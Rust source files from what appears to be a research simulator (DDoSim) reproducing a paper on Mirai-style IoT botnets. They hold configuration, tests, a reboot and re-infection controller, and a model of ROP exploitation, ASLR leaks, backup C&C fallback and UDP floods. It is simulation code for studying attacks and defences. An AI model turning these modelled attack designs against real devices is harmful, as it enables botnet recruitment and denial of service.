    /// limitation): Devs share regional uplinks into a backbone; the
    /// Attacker and TServer sit on the backbone.
    Tiered {
        /// Number of regional routers (Devs are assigned round-robin).
        regions: usize,
        /// Capacity of each regional uplink, bps.
        region_uplink_bps: u64,
    },
    /// The paper's physical validation setup (§IV-B): Devs associate to a
    /// router over a shared Wi-Fi medium (CSMA/CA contention) and are
    /// shaped to their IoT access rates; the Attacker and TServer connect
    /// to the router over wired links.
    Wifi,
}

/// Per-subsystem RNG stream plan — the first-class handle on the seed
/// split that [`crate::Ddosim`] already performs internally.
///
/// A build derives three independent streams from the run seed:
///
/// * **world** — topology construction, access-rate draws, binary mix,
///   protection assignment (`seed ^ WORLD_TAG`),
/// * **event** — the simulator's event-level stream driving churn,
///   backoff jitter, scan order (`seed`),
/// * **fault** — the fault-injection plan's draws
///   (`seed ^ plan_seed ^ FAULT_TAG`).
///
/// The default plan (all `None`) reproduces those derivations exactly, so
/// it is byte-identical to the pre-`RngPlan` behaviour. Pinning a stream
/// overrides its derivation with a fixed seed, independent of the run
/// seed — which is what common-random-numbers (CRN) paired sweeps need:
/// two configs that differ only in the treatment (a defense parameter, a
/// churn mode) but share every noise stream, so their A−B difference
/// subtracts out the shared noise.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct RngPlan {
    /// World-building stream override (`None` = derive from the run seed).
    pub world: Option<u64>,
    /// Event-level stream override (`None` = derive from the run seed).
    pub event: Option<u64>,
    /// Fault-injection stream override (`None` = derive from the run and
    /// fault-plan seeds).
    pub fault: Option<u64>,
}

impl RngPlan {
    /// Domain-separation tag of the world-building stream.
    pub const WORLD_TAG: u64 = 0xB111D;
    /// Domain-separation tag of the fault-injection stream.
    pub const FAULT_TAG: u64 = 0xFA17;

    /// Pins every stream to the derivations a plain run with
    /// `seed = noise_seed` would use. Two configs carrying the same pinned
    /// plan share all three noise streams even when their run seeds,
    /// fault-plan seeds, or treatments differ — the CRN pairing mode.
    pub fn pinned(noise_seed: u64) -> Self {
        RngPlan {
            world: Some(noise_seed ^ Self::WORLD_TAG),
            event: Some(noise_seed),
            fault: Some(noise_seed ^ Self::FAULT_TAG),
        }
    }

    /// Seed of the world-building stream for a run with `sim_seed`.
    pub fn world_seed(&self, sim_seed: u64) -> u64 {
        self.world.unwrap_or(sim_seed ^ Self::WORLD_TAG)
    }

    /// Seed of the event-level stream for a run with `sim_seed`.
    pub fn event_seed(&self, sim_seed: u64) -> u64 {
        self.event.unwrap_or(sim_seed)
    }

    /// Seed of the fault-injection stream for a run with `sim_seed` whose
    /// fault plan carries `plan_seed`.
    pub fn fault_seed(&self, sim_seed: u64, plan_seed: u64) -> u64 {
        self.fault.unwrap_or(sim_seed ^ plan_seed ^ Self::FAULT_TAG)
    }

    /// True when no stream is pinned (the byte-identical legacy split).
    pub fn is_default(&self) -> bool {
        *self == RngPlan::default()
    }
}

/// The attack to launch once the botnet is assembled.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct AttackSpec {
    /// Flood vector.
    pub vector: AttackVector,
    /// Attack duration.
    pub duration: Duration,
    /// Payload bytes per packet (`None` = vector default, 512 for
    /// UDP-PLAIN).
    pub payload_bytes: Option<u32>,
    /// Destination port on TServer.
    pub port: u16,
}

impl AttackSpec {
    /// The paper's attack: Mirai's volumetric UDP-PLAIN flood.
    pub fn udp_plain(duration: Duration) -> Self {
        AttackSpec {
            vector: AttackVector::UdpPlain,
            duration,
            payload_bytes: None,
            port: 80,
        }
    }
}

impl Default for AttackSpec {
    fn default() -> Self {
        AttackSpec::udp_plain(Duration::from_secs(100))
    }
}

/// Full configuration of one DDoSim run.
#[derive(Debug, Clone)]
pub struct SimulationConfig {
    /// Number of Devs.
    pub devs: usize,
    /// Daemon distribution.
    pub binary_mix: BinaryMix,
    /// Memory-protection distribution.
    pub protections: ProtectionMix,
    /// Dev CPU architecture (the paper's experiments use x86-64).
    pub arch: Arch,
    /// Dev access-link rate range in kbps (the paper selects 100–500 kbps,
    /// the average IoT range).
    pub access_rate_kbps: RangeInclusive<u64>,
    /// Rate of the fabric→TServer bottleneck link, bps.
    pub tserver_link_bps: u64,
    /// Queue capacity of the bottleneck link, bytes.
    pub tserver_queue_bytes: u64,
    /// One-way delay of each access link.
    pub access_delay: Duration,
    /// Churn variant.
    pub churn: ChurnMode,
    /// The attack to run.
    pub attack: AttackSpec,
    /// When the C&C admin issues the attack command.
    pub attack_at: Duration,
    /// Total NS-3-style simulation horizon (the paper uses 600 s).
    pub sim_time: Duration,
    /// Exploit construction strategy.
    pub strategy: ExploitStrategy,
    /// Shell commands available in Dev images (hardening ablations remove
    /// `curl`).
    pub commands: CommandSet,
    /// Recruitment mechanism.
    pub recruitment: Recruitment,
    /// Bot flood offered rate, bps.
    pub flood_rate_bps: u64,
    /// Upper bound of the per-bot flood ramp-up delay.
    pub attack_ramp: Duration,
    /// Attack TServer's IPv6 address instead of IPv4 (the paper adds IPv6
    /// support to NS3DockerEmulator; floods work over either family).
    pub attack_over_ipv6: bool,
    /// Per-device reboot rate (expected reboots per minute; 0 disables).
    /// Mirai does not survive reboots, so rebooted Devs must be
    /// re-recruited — the recovered→susceptible loop of SEIRS models.
    pub reboot_rate_per_min: f64,
    /// Fabric shape.
    pub topology: TopologyKind,
    /// Additional admin telnet lines sent to the C&C at the given times
    /// (Mirai admin syntax, e.g. `("stop", t)` or a second
    /// `udpplain <ip> <port> <secs>`); the main attack command from
    /// [`SimulationConfig::attack`] is always issued at `attack_at`.
    pub admin_script: Vec<(Duration, String)>,
    /// What to observe: flight recorder, packet capture, metric sampling.
    /// Disabled by default so runs stay on the uninstrumented hot path.
    pub telemetry: netsim::TelemetryConfig,
    /// Faults to inject on the simulation clock (link flaps, loss,
    /// crashes, C&C outages). Empty by default, which is a strict no-op:
    /// an empty plan schedules nothing and perturbs no RNG stream.
    pub faults: faults::FaultPlan,
    /// Honeypot nodes attached alongside the Devs: they expose telnet,
    /// are included in the scanned target set, and feed every scanner
    /// that touches them into the simulator-global blocklist. 0 (the
    /// default) attaches none and changes nothing.
    pub honeypots: u16,
    /// Backup C&C hosts attached on the core fabric. Their addresses are
    /// compiled into the served bot binaries as a fallback chain: bots
    /// rotate to the next host after repeated connect failures, which is
    /// what lets the botnet ride out a C&C takedown. 0 (the default)
    /// attaches none and changes nothing.
    pub backup_cncs: u16,
    /// Per-subsystem RNG stream plan. The default derives every stream
    /// from [`SimulationConfig::seed`] exactly as before `RngPlan`
    /// existed; [`RngPlan::pinned`] shares streams across paired configs
    /// for common-random-numbers sweeps.
    pub rng: RngPlan,
    /// RNG seed.
    pub seed: u64,
}

impl Default for SimulationConfig {
    fn default() -> Self {
        SimulationConfig {
            devs: 10,
            binary_mix: BinaryMix::default(),
            protections: ProtectionMix::RandomSubsets,
            arch: Arch::X86_64,
            access_rate_kbps: 100..=500,
            tserver_link_bps: 35_000_000,
            tserver_queue_bytes: 512 * 1024,
            access_delay: Duration::from_millis(10),
            churn: ChurnMode::None,
            attack: AttackSpec::default(),
            attack_at: Duration::from_secs(60),
            sim_time: Duration::from_secs(600),
            strategy: ExploitStrategy::LeakRebase,
            commands: CommandSet::standard(),
            recruitment: Recruitment::MemoryError,
            flood_rate_bps: malware::DEFAULT_FLOOD_RATE_BPS,
            attack_ramp: malware::DEFAULT_ATTACK_RAMP,
            attack_over_ipv6: false,
            reboot_rate_per_min: 0.0,
            topology: TopologyKind::Star,
            admin_script: Vec::new(),
            telemetry: netsim::TelemetryConfig::default(),
            faults: faults::FaultPlan::default(),
            honeypots: 0,
            backup_cncs: 0,
            rng: RngPlan::default(),
            seed: 42,
        }
    }
}

impl SimulationConfig {
    /// Validates the configuration.
    ///
    /// # Errors
    ///
    /// Returns a human-readable message for the first violated constraint.
    pub fn validate(&self) -> Result<(), String> {
        if self.devs == 0 {
            return Err("at least one Dev is required".into());
        }
        if self.access_rate_kbps.is_empty() {
            return Err("access rate range is empty".into());
        }
        if *self.access_rate_kbps.start() == 0 {
            return Err("access rate must be positive".into());
        }
        if self.attack_at + self.attack.duration > self.sim_time {
            return Err(format!(
                "attack window ({}s at {}s) exceeds the simulation horizon ({}s)",
                self.attack.duration.as_secs(),
                self.attack_at.as_secs(),
                self.sim_time.as_secs()
            ));
        }
        if let BinaryMix::Mixed { connman_fraction } = self.binary_mix {
            if !(0.0..=1.0).contains(&connman_fraction) {
                return Err("connman fraction must be in [0, 1]".into());
            }
        }
        match self.recruitment {
            Recruitment::CredentialScanner {
                default_credential_fraction,
            }
            | Recruitment::SelfPropagating {
                default_credential_fraction,
                ..
            } => {
                if !(0.0..=1.0).contains(&default_credential_fraction) {
                    return Err("default credential fraction must be in [0, 1]".into());
                }
            }
            Recruitment::MemoryError => {}
        }
        if let Recruitment::SelfPropagating { seeds, .. } = self.recruitment {
            if seeds == 0 || seeds > self.devs {
                return Err("seed count must be in 1..=devs".into());
            }
        }
        if !(self.reboot_rate_per_min.is_finite() && self.reboot_rate_per_min >= 0.0) {
            return Err("reboot rate must be a finite non-negative number".into());
        }
        if let TopologyKind::Tiered { regions, region_uplink_bps } = self.topology {
            if regions == 0 {
                return Err("tiered topology needs at least one region".into());
            }
            if region_uplink_bps == 0 {
                return Err("regional uplinks must have positive capacity".into());
            }
        }
        self.telemetry.validate()?;
        self.faults.validate()?;
        Ok(())
    }
}

/// Fluent builder for a DDoSim run.
///
/// # Examples
///
/// ```
/// use ddosim_core::{AttackSpec, SimulationBuilder};
/// use std::time::Duration;
///
/// let builder = SimulationBuilder::new()
///     .devs(25)
///     .attack(AttackSpec::udp_plain(Duration::from_secs(100)))
///     .seed(7);
/// ```
#[derive(Debug, Clone, Default)]
pub struct SimulationBuilder {
    config: SimulationConfig,
    checkpoint_at: Option<Duration>,
    resume: Option<crate::Checkpoint>,
}

impl SimulationBuilder {
    /// Starts from the default (paper-like) configuration.
    pub fn new() -> Self {
        SimulationBuilder {
            config: SimulationConfig::default(),
            checkpoint_at: None,
            resume: None,
        }
    }

    /// Number of Devs.
    pub fn devs(mut self, n: usize) -> Self {
        self.config.devs = n;
        self
    }

    /// Daemon distribution across Devs.
    pub fn binary_mix(mut self, mix: BinaryMix) -> Self {
        self.config.binary_mix = mix;
        self
    }

    /// Memory-protection distribution across Devs.
    pub fn protections(mut self, mix: ProtectionMix) -> Self {
        self.config.protections = mix;
        self
    }

    /// Dev access-link rate range in kbps.
    pub fn access_rate_kbps(mut self, range: RangeInclusive<u64>) -> Self {
        self.config.access_rate_kbps = range;
        self
    }

    /// Bottleneck (fabric→TServer) link rate in bps.
    pub fn tserver_link_bps(mut self, bps: u64) -> Self {
        self.config.tserver_link_bps = bps;
        self
    }

    /// Churn variant.
    pub fn churn(mut self, mode: ChurnMode) -> Self {
        self.config.churn = mode;
        self
    }

    /// The attack to run.
    pub fn attack(mut self, spec: AttackSpec) -> Self {
        self.config.attack = spec;
        self
    }

    /// When the admin issues the attack command.
    pub fn attack_at(mut self, at: Duration) -> Self {
        self.config.attack_at = at;
        self
    }

    /// Simulation horizon.
    pub fn sim_time(mut self, t: Duration) -> Self {
        self.config.sim_time = t;
        self
    }

    /// Exploit strategy.
    pub fn strategy(mut self, s: ExploitStrategy) -> Self {
        self.config.strategy = s;
        self
    }

    /// Dev shell command set (hardening ablations).
    pub fn commands(mut self, commands: CommandSet) -> Self {
        self.config.commands = commands;
        self
    }

    /// Recruitment mechanism.
    pub fn recruitment(mut self, r: Recruitment) -> Self {
        self.config.recruitment = r;
        self
    }

    /// Bot flood offered rate in bps.
    pub fn flood_rate_bps(mut self, bps: u64) -> Self {
        self.config.flood_rate_bps = bps;
        self
    }

    /// Upper bound of per-bot flood ramp-up.
    pub fn attack_ramp(mut self, ramp: Duration) -> Self {
        self.config.attack_ramp = ramp;
        self
    }

    /// Attack TServer over IPv6 instead of IPv4.
    pub fn attack_over_ipv6(mut self, v6: bool) -> Self {
        self.config.attack_over_ipv6 = v6;
        self
    }

    /// Per-device reboot rate (reboots per minute; 0 disables).
    pub fn reboot_rate_per_min(mut self, rate: f64) -> Self {
        self.config.reboot_rate_per_min = rate;
        self
    }

    /// Fabric shape (star is the paper's model).
    pub fn topology(mut self, t: TopologyKind) -> Self {
        self.config.topology = t;
        self
    }

    /// Appends an extra admin telnet line at `at` (Mirai admin syntax).
    pub fn admin_command(mut self, at: Duration, line: impl Into<String>) -> Self {
        self.config.admin_script.push((at, line.into()));
        self
    }

    /// Observability configuration (flight recorder / packet capture /
    /// metric sampling).
    pub fn telemetry(mut self, t: netsim::TelemetryConfig) -> Self {
        self.config.telemetry = t;
        self
    }

    /// Fault-injection plan (see the `faults` crate).
    pub fn faults(mut self, plan: faults::FaultPlan) -> Self {
        self.config.faults = plan;
        self
    }

    /// Number of honeypot nodes to attach (0 = none).
    pub fn honeypots(mut self, n: u16) -> Self {
        self.config.honeypots = n;
        self
    }

    /// Number of backup C&C hosts whose addresses are compiled into the
    /// bot binaries as a takedown fallback chain (0 = none).
    pub fn backup_cncs(mut self, n: u16) -> Self {
        self.config.backup_cncs = n;
        self
    }

    /// RNG seed.
    pub fn seed(mut self, seed: u64) -> Self {
        self.config.seed = seed;
        self
    }

    /// Per-subsystem RNG stream plan ([`RngPlan::pinned`] enables
    /// common-random-numbers pairing; the default reproduces the plain
    /// seed-derived streams byte for byte).
    pub fn rng(mut self, plan: RngPlan) -> Self {
        self.config.rng = plan;
        self
    }

    /// Arms a mid-run snapshot: when the run crosses `at`, a
    /// [`crate::Checkpoint`] is produced alongside the result (retrieve it
    /// via [`crate::Ddosim::try_run_to_completion`]).
    pub fn checkpoint_at(mut self, at: Duration) -> Self {
        self.checkpoint_at = Some(at);
        self
    }

    /// Resumes from a checkpoint instead of starting fresh. The entire
    /// configuration — telemetry included — is taken from the checkpoint;
    /// any configuration set on this builder is discarded (a resumed world
    /// must be rebuilt exactly as the original, or digest verification
    /// fails).
    pub fn resume_from(mut self, cp: crate::Checkpoint) -> Self {
        self.config = cp.config.clone();
        self.resume = Some(cp);
        self
    }

    /// The accumulated configuration.
    pub fn config(&self) -> &SimulationConfig {
        &self.config
    }

    /// Builds the simulation instance.
    ///
    /// # Errors
    ///
    /// Returns a message if the configuration is invalid.
    pub fn build(self) -> Result<crate::Ddosim, String> {
        let mut instance = match self.resume {
            Some(cp) => crate::Ddosim::resume_from(cp)?,
            None => crate::Ddosim::new(self.config)?,
        };
        if let Some(at) = self.checkpoint_at {
            instance.set_checkpoint_at(at);
        }
        Ok(instance)
    }

    /// Builds and runs to completion.
    ///
    /// # Errors
    ///
    /// Returns a message if the configuration is invalid.
    pub fn run(self) -> Result<crate::RunResult, String> {
        Ok(self.build()?.run_to_completion())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn default_config_is_valid() {
        assert_eq!(SimulationConfig::default().validate(), Ok(()));
    }

    #[test]
    fn zero_devs_invalid() {
        let c = SimulationConfig {
            devs: 0,
            ..SimulationConfig::default()
        };
        assert!(c.validate().is_err());
    }

    #[test]
    fn attack_window_must_fit_horizon() {
        let mut c = SimulationConfig {
            attack_at: Duration::from_secs(550),
            ..SimulationConfig::default()
        };
        c.attack.duration = Duration::from_secs(100);
        assert!(c.validate().is_err());
    }

    #[test]
    fn fractions_validated() {
        let c = SimulationConfig {
            binary_mix: BinaryMix::Mixed {
                connman_fraction: 1.5,
            },
            ..SimulationConfig::default()
        };
        assert!(c.validate().is_err());
        let c = SimulationConfig {
            recruitment: Recruitment::CredentialScanner {
                default_credential_fraction: -0.1,
            },
            ..SimulationConfig::default()
        };
        assert!(c.validate().is_err());
    }

    #[test]
    fn builder_sets_fields() {
        let b = SimulationBuilder::new()
            .devs(50)
            .churn(ChurnMode::Dynamic)
            .seed(9);
        assert_eq!(b.config().devs, 50);
        assert_eq!(b.config().churn, ChurnMode::Dynamic);
        assert_eq!(b.config().seed, 9);
    }

    #[test]
    fn default_rng_plan_matches_legacy_derivations() {
        let plan = RngPlan::default();
        assert!(plan.is_default());
        assert_eq!(plan.world_seed(42), 42 ^ RngPlan::WORLD_TAG);
        assert_eq!(plan.event_seed(42), 42);
        assert_eq!(plan.fault_seed(42, 7), 42 ^ 7 ^ RngPlan::FAULT_TAG);
    }

    #[test]
    fn pinned_rng_plan_is_seed_invariant() {
        let plan = RngPlan::pinned(1234);
        assert!(!plan.is_default());
        // Pinned streams ignore the run seed and the fault-plan seed: the
        // same noise lands in every paired arm.
        for seed in [0, 42, u64::MAX] {
            assert_eq!(plan.world_seed(seed), 1234 ^ RngPlan::WORLD_TAG);
            assert_eq!(plan.event_seed(seed), 1234);
            assert_eq!(plan.fault_seed(seed, 9), 1234 ^ RngPlan::FAULT_TAG);
        }
        // And they equal what a plain run with seed = noise would draw.
        let legacy = RngPlan::default();
        assert_eq!(plan.world_seed(7), legacy.world_seed(1234));
        assert_eq!(plan.event_seed(7), legacy.event_seed(1234));
        assert_eq!(plan.fault_seed(7, 0), legacy.fault_seed(1234, 0));
    }

    #[test]
    fn udp_plain_spec_defaults() {
        let a = AttackSpec::udp_plain(Duration::from_secs(100));
        assert_eq!(a.vector, AttackVector::UdpPlain);
        assert_eq!(a.port, 80);
        assert_eq!(a.payload_bytes, None);
    }
}
