//! Experiment-record persistence and regression comparison.
//!
//! Reproduction experiments are only useful if their outputs are recorded
//! and comparable across code versions: [`save_results`]/[`load_results`]
//! persist [`RunResult`] sets as JSON, and [`compare`] diffs two recordings
//! of the same sweep, flagging metric drifts beyond a tolerance — the
//! mechanism behind keeping EXPERIMENTS.md honest.

use crate::result::RunResult;
use djson::{FromJson, Json, ToJson};
use std::fmt;
use std::io;
use std::path::Path;

/// Saves results as pretty-printed JSON.
///
/// # Errors
///
/// Propagates I/O errors; serialization of [`RunResult`] cannot fail.
pub fn save_results<P: AsRef<Path>>(path: P, results: &[RunResult]) -> io::Result<()> {
    let json = results.to_json().to_string_pretty();
    std::fs::write(path, json)
}

/// Loads results saved by [`save_results`].
///
/// # Errors
///
/// Propagates I/O errors and malformed JSON.
pub fn load_results<P: AsRef<Path>>(path: P) -> io::Result<Vec<RunResult>> {
    let json = std::fs::read_to_string(path)?;
    let value =
        Json::parse(&json).map_err(|e| io::Error::new(io::ErrorKind::InvalidData, e))?;
    Vec::<RunResult>::from_json(&value)
        .map_err(|e| io::Error::new(io::ErrorKind::InvalidData, e))
}

/// Key identifying a run within a sweep.
fn key(r: &RunResult) -> (usize, String, u64, u64) {
    (r.devs, format!("{}", r.churn), r.attack_duration_secs, r.seed)
}

/// One metric drift between two recordings of the same run.
#[derive(Debug, Clone, PartialEq)]
pub struct Drift {
    /// Which run drifted (devs, churn, duration, seed).
    pub run: String,
    /// Which metric drifted.
    pub metric: &'static str,
    /// Value in the baseline recording.
    pub baseline: f64,
    /// Value in the current recording.
    pub current: f64,
    /// `|current − baseline| / max(|baseline|, ε)`.
    pub relative_change: f64,
}

impl fmt::Display for Drift {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "{}: {} drifted {:.1}% ({:.3} -> {:.3})",
            self.run,
            self.metric,
            self.relative_change * 100.0,
            self.baseline,
            self.current
        )
    }
}

/// Compares two recordings of the same sweep; returns every metric whose
/// relative change exceeds `tolerance` (e.g. `0.05` for 5%), plus an entry
/// for any run present in one recording but not the other.
pub fn compare(baseline: &[RunResult], current: &[RunResult], tolerance: f64) -> Vec<Drift> {
    let mut drifts = Vec::new();
    let by_key: std::collections::BTreeMap<_, &RunResult> =
        current.iter().map(|r| (key(r), r)).collect();
    let mut seen = std::collections::BTreeSet::new();
    for b in baseline {
        let k = key(b);
        let run = format!("devs={} {} {}s seed={}", k.0, k.1, k.2, k.3);
        let Some(c) = by_key.get(&k) else {
            drifts.push(Drift {
                run,
                metric: "missing in current recording",
                baseline: 1.0,
                current: 0.0,
                relative_change: 1.0,
            });
            continue;
        };
        seen.insert(k);
        let metrics: [(&'static str, f64, f64); 4] = [
            (
                "avg_received_data_rate_kbps",
                b.avg_received_data_rate_kbps,
                c.avg_received_data_rate_kbps,
            ),
            ("infection_rate", b.infection_rate, c.infection_rate),
            (
                "flood_packets_received",
                b.flood_packets_received as f64,
                c.flood_packets_received as f64,
            ),
            ("peak_bots", b.peak_bots as f64, c.peak_bots as f64),
        ];
        for (metric, bv, cv) in metrics {
            let rel = (cv - bv).abs() / bv.abs().max(1e-9);
            if rel > tolerance {
                drifts.push(Drift {
                    run: run.clone(),
                    metric,
                    baseline: bv,
                    current: cv,
                    relative_change: rel,
                });
            }
        }
    }
    for c in current {
        let k = key(c);
        if !seen.contains(&k) && !baseline.iter().any(|b| key(b) == k) {
            drifts.push(Drift {
                run: format!("devs={} {} {}s seed={}", k.0, k.1, k.2, k.3),
                metric: "missing in baseline recording",
                baseline: 0.0,
                current: 1.0,
                relative_change: 1.0,
            });
        }
    }
    drifts
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{AttackSpec, SimulationBuilder};
    use std::time::Duration;

    fn tiny(seed: u64) -> RunResult {
        SimulationBuilder::new()
            .devs(3)
            .attack(AttackSpec::udp_plain(Duration::from_secs(10)))
            .attack_at(Duration::from_secs(25))
            .sim_time(Duration::from_secs(40))
            .attack_ramp(Duration::from_secs(1))
            .seed(seed)
            .run()
            .expect("valid configuration")
    }

    #[test]
    fn save_load_roundtrip() {
        let results = vec![tiny(1), tiny(2)];
        let path = std::env::temp_dir().join("ddosim_record_test.json");
        save_results(&path, &results).expect("writes");
        let loaded = load_results(&path).expect("reads");
        assert_eq!(loaded.len(), 2);
        assert_eq!(
            loaded[0].avg_received_data_rate_kbps,
            results[0].avg_received_data_rate_kbps
        );
        let _ = std::fs::remove_file(path);
    }

    #[test]
    fn identical_recordings_have_no_drift() {
        let results = vec![tiny(1)];
        assert!(compare(&results, &results, 0.01).is_empty());
    }

    #[test]
    fn drifted_metric_is_flagged() {
        let baseline = vec![tiny(1)];
        let mut current = baseline.clone();
        current[0].avg_received_data_rate_kbps *= 1.5;
        let drifts = compare(&baseline, &current, 0.05);
        assert_eq!(drifts.len(), 1);
        assert_eq!(drifts[0].metric, "avg_received_data_rate_kbps");
        assert!((drifts[0].relative_change - 0.5).abs() < 1e-9);
        assert!(drifts[0].to_string().contains("drifted 50.0%"));
    }

    #[test]
    fn missing_runs_are_flagged_both_ways() {
        let a = vec![tiny(1), tiny(2)];
        let b = vec![tiny(1)];
        let d = compare(&a, &b, 0.01);
        assert!(d.iter().any(|x| x.metric.contains("missing in current")));
        let d = compare(&b, &a, 0.01);
        assert!(d.iter().any(|x| x.metric.contains("missing in baseline")));
    }
}
