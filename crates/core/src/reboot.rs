//! Device reboots and re-infection.
//!
//! Mirai famously does not persist: "the malware does not survive a
//! reboot" — which is why epidemic treatments of IoT botnets (e.g. the
//! SEIRS work the paper cites as [55]) include a recovered→susceptible
//! transition. This controller reboots Devs at a configurable rate: the
//! resident bot and all downloads vanish, the device goes dark briefly,
//! and the firmware daemon comes back up vulnerable — whereupon the
//! attacker's reconciler re-exploits it. The botnet settles into the
//! endemic equilibrium those models predict.

use firmware::ContainerHandle;
use netsim::{Application, Category, Ctx, ForkClone, ForkMap, NodeId};
use rand::Rng;
use std::time::Duration;

const TIMER_EPOCH: u64 = 1;
/// How often reboot decisions are drawn.
pub const REBOOT_EPOCH: Duration = Duration::from_secs(10);
/// How long a rebooting device stays off the network.
pub const REBOOT_DOWNTIME: Duration = Duration::from_secs(5);

/// Process names that survive a reboot (init restarts the firmware
/// daemons).
pub const DAEMON_NAMES: [&str; 2] = ["connmand", "dnsmasq"];

/// Reboots Devs at `rate_per_min` per device; installed on an always-up
/// orchestration node.
#[derive(Debug)]
pub struct RebootController {
    devices: Vec<(NodeId, ContainerHandle)>,
    rate_per_min: f64,
    /// Total reboots performed.
    pub reboots: u64,
}

impl RebootController {
    /// Creates a controller over `devices` with a per-device reboot rate
    /// (expected reboots per minute).
    pub fn new(devices: Vec<(NodeId, ContainerHandle)>, rate_per_min: f64) -> Self {
        RebootController {
            devices,
            rate_per_min: rate_per_min.max(0.0),
            reboots: 0,
        }
    }

    fn epoch_probability(&self) -> f64 {
        (self.rate_per_min * REBOOT_EPOCH.as_secs_f64() / 60.0).clamp(0.0, 1.0)
    }

    fn epoch(&mut self, ctx: &mut Ctx<'_>) {
        let p = self.epoch_probability();
        for i in 0..self.devices.len() {
            if !ctx.rng().gen_bool(p) {
                continue;
            }
            let (node, container) = self.devices[i].clone();
            if !container.bot_alive() && container.state().reboot_count == 0 {
                // Rebooting a pristine device is a no-op for the botnet;
                // still counts as a power cycle.
            }
            self.reboots += 1;
            let (reboot_no, was_bot) = (self.reboots, container.bot_alive());
            ctx.record_event(Category::Reboot, || {
                format!(
                    "reboot #{reboot_no}: node {} power-cycled{}",
                    node.index(),
                    if was_bot { " (resident bot dies)" } else { "" }
                )
            });
            // Volatile state dies; the apps embodying it are removed.
            for app in container.reboot(ctx.now(), &DAEMON_NAMES) {
                ctx.kill_app(app);
            }
            ctx.set_node_admin(node, false);
            // Forkable (data + fn pointer) so an in-flight downtime window
            // survives Ddosim::fork.
            ctx.sim().schedule_forkable_call_after(
                REBOOT_DOWNTIME,
                "reboot.restore",
                node,
                |sim, node| sim.set_node_admin(node, true),
            );
        }
    }
}

impl Application for RebootController {
    fn name(&self) -> &str {
        "reboot-controller"
    }

    fn fork(&self, map: &ForkMap) -> Option<Box<dyn Application>> {
        Some(Box::new(RebootController {
            devices: self.devices.fork_clone(map),
            rate_per_min: self.rate_per_min,
            reboots: self.reboots,
        }))
    }

    fn state_digest(&self, h: &mut netsim::StateHasher) {
        h.write_usize(self.devices.len());
        h.write_f64(self.rate_per_min);
        h.write_u64(self.reboots);
    }

    fn on_start(&mut self, ctx: &mut Ctx<'_>) {
        if self.rate_per_min > 0.0 {
            ctx.set_timer(REBOOT_EPOCH, TIMER_EPOCH);
        }
    }

    fn on_timer(&mut self, ctx: &mut Ctx<'_>, token: u64) {
        if token == TIMER_EPOCH {
            self.epoch(ctx);
            ctx.set_timer(REBOOT_EPOCH, TIMER_EPOCH);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn epoch_probability_scales_with_rate() {
        let make = |rate| RebootController::new(Vec::new(), rate);
        assert_eq!(make(0.0).epoch_probability(), 0.0);
        let p = make(3.0).epoch_probability(); // 3/min over 10 s = 0.5
        assert!((p - 0.5).abs() < 1e-12);
        assert_eq!(make(100.0).epoch_probability(), 1.0, "clamped");
    }

    #[test]
    fn negative_rates_are_clamped() {
        assert_eq!(RebootController::new(Vec::new(), -1.0).rate_per_min, 0.0);
    }
}
