//! End-to-end smoke tests of the full DDoSim pipeline.

use ddosim_core::{AttackSpec, SimulationBuilder};
use std::time::Duration;

#[test]
fn five_devs_get_infected_and_flood() {
    let result = SimulationBuilder::new()
        .devs(5)
        .attack(AttackSpec::udp_plain(Duration::from_secs(20)))
        .attack_at(Duration::from_secs(30))
        .sim_time(Duration::from_secs(60))
        .attack_ramp(Duration::from_secs(2))
        .seed(1)
        .run()
        .expect("valid config");
    eprintln!("infected={} bots_at_command={} avg={} flood_pkts={}",
        result.infected, result.bots_at_command,
        result.avg_received_data_rate_kbps, result.flood_packets_received);
    assert_eq!(result.infected, 5, "100% infection (R2)");
    assert_eq!(result.bots_at_command, 5);
    assert!(result.flood_packets_received > 0, "flood reached TServer");
    assert!(result.avg_received_data_rate_kbps > 100.0);
}
