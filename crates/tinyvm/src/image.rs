//! Binary images: the static description of a vulnerable network daemon.
//!
//! A [`BinaryImage`] is what the Attacker analyzes offline (the paper
//! assumes "Attacker can access Devs' binaries and analyze them to construct
//! working ROP payloads"): load addresses, a gadget table, the stack-buffer
//! vulnerability's geometry, and whether an information-leak primitive
//! exists (needed to defeat ASLR).

use std::collections::BTreeMap;
use std::fmt;

/// Target CPU architecture of a binary (the paper supports multiple
/// architectures via Docker Buildx; its experiments use x86-64).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum Arch {
    /// 64-bit x86.
    X86_64,
    /// 32-bit ARMv7.
    Arm7,
    /// 32-bit MIPS.
    Mips,
}

impl Arch {
    /// The suffix Mirai-style loaders use for per-arch binaries.
    pub fn suffix(self) -> &'static str {
        match self {
            Arch::X86_64 => "x86",
            Arch::Arm7 => "arm7",
            Arch::Mips => "mips",
        }
    }
}

impl fmt::Display for Arch {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.suffix())
    }
}

/// Micro-operations a ROP gadget performs when "executed".
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum GadgetOp {
    /// `pop rdi; ret` — loads the next chain word into the first argument
    /// register.
    PopArg0,
    /// `pop rsi; ret` — second argument register.
    PopArg1,
    /// A syscall stub that invokes `execlp` with arg0 pointing at a
    /// NUL-terminated command string.
    SyscallExec,
    /// Plain `ret` (alignment / nop gadget).
    Ret,
}

/// Geometry of the stack-buffer-overflow vulnerability.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct VulnSpec {
    /// Size of the fixed stack buffer the daemon copies input into.
    pub buffer_len: usize,
    /// Bytes between the end of the buffer and the saved return address
    /// (saved registers / canary-free padding).
    pub gap_to_ra: usize,
    /// Maximum input bytes the (absent) length check would have allowed;
    /// inputs longer than this are truncated by the transport, bounding the
    /// chain size an attacker can deliver.
    pub max_input: usize,
}

impl VulnSpec {
    /// Offset of the saved return address from the buffer start.
    pub fn ra_offset(&self) -> usize {
        self.buffer_len + self.gap_to_ra
    }
}

/// The information-leak primitive of an image, if any.
///
/// Both of the paper's daemons echo attacker-influenced data; we model this
/// as a probe that returns a code address from which the attacker computes
/// the ASLR slide.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
